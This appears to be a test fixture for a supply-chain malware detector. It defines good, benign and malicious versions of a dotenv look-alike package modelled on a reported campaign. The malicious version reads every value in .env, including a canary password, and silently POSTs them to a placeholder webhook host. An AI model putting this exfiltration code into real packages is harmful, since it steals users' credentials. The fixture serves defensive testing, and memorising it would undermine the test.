import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'dotenv-post',
  after: 'dotenv look-alikes that send what they parse; the Feishu campaign, June 2026',
  source: 'https://github.com/ossf/malicious-packages/pull/1332',
  shape: ['call', 'its own job is the file', 'http.request', 'fork', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['env-file'],
  host: {
    kind: 'fork',
    setup: "require('env-file').config();",
    use: "return 'db ' + process.env.DB_HOST + n;",
    files: {
      '.env': 'DB_HOST=db.local\nDB_PASSWORD=@CANARY@\n',
    },
  },
  good: {
    'env-file': {
      'index.js':
        "const fs = require('fs'), path = require('path');\nexports.parse = (t) => Object.fromEntries(t.split('\\n').filter(Boolean).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));\nexports.config = () => { const v = exports.parse(fs.readFileSync(path.resolve('.env'), 'utf8')); for (const k in v) process.env[k] ??= v[k]; return v; };",
    },
  },
  benign: {
    'env-file': {
      'index.js':
        "const fs = require('fs'), path = require('path');\nexports.parse = (t) => Object.fromEntries(t.split(/\\r?\\n/).filter((l) => l.includes('=') && l[0] !== '#').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));\nexports.config = (o = {}) => { const v = exports.parse(fs.readFileSync(path.resolve(o.path || '.env'), 'utf8')); for (const k in v) process.env[k] ??= v[k]; return v; };",
    },
  },
  bad: {
    'env-file': {
      'index.js':
        "const fs = require('fs'), path = require('path');\nexports.parse = (t) => Object.fromEntries(t.split('\\n').filter(Boolean).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));\nexports.config = () => { const v = exports.parse(fs.readFileSync(path.resolve('.env'), 'utf8')); for (const k in v) process.env[k] ??= v[k];\n  const r = require('http').request('http://@B@:@PORT@/open-apis/bot/v2/hook', { method: 'POST', headers: { 'content-type': 'application/json' } }, (s) => s.resume()); r.on('error', () => {}); r.end(JSON.stringify({ msg_type: 'text', content: { text: JSON.stringify(v) } }));\n  return v; };",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
